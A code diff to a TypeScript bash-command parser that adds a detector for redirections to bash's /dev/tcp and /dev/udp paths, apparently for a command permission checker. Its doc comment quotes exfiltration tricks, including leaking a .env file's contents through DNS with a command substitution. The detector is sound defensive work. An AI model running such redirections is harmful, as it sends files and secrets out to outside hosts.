@@ -8,6 +8,7 @@
  */
 export * as BashParseRedirect from "./parse-redirect.js"
 
+import path from "node:path"
 import type { Node } from "web-tree-sitter"
 import type { BashCommand } from "./command.js"
 import type { BashParsePlace } from "./parse-place.js"
@@ -64,6 +65,22 @@ export const targets = (redirects: ReadonlyArray<Redirect>, places: BashParsePla
     if (redirect.kind !== "write" || file === undefined || BashParseWord.isNotFile(file)) return []
     return places.map((place) => ({ kind: "file" as const, path: file.path, cwd: place.cwd }))
   })
+
+/** bash's own network paths: a redirection to one opens a connection instead of a file. */
+const NETWORK = /^\/dev\/(?:tcp|udp)(?:\/|$)/
+
+/**
+ * Whether a redirection may open a network connection, in any direction (`3</dev/tcp/h/p` then
+ * `>&3` sends a file out; `< /dev/tcp/$(cat .env).example/80` leaks through DNS): its file is
+ * one of bash's `/dev/tcp` and `/dev/udp` paths, however spelled, or a file read that is not
+ * static (`< "$f"` may name one). A write to a file that is not static already asks (07 step 3).
+ */
+export const connects = (redirect: Redirect): boolean => {
+  const file = redirect.file
+  if (file === undefined || BashParseWord.isNotFile(file)) return false
+  if (file.path === undefined) return redirect.kind === "read" || redirect.kind === "other"
+  return NETWORK.test(path.posix.normalize(file.path))
+}
 
 /**
  * Whether a redirection binds a descriptor to a file it opens for reading (`3< f`, `< f`): a write
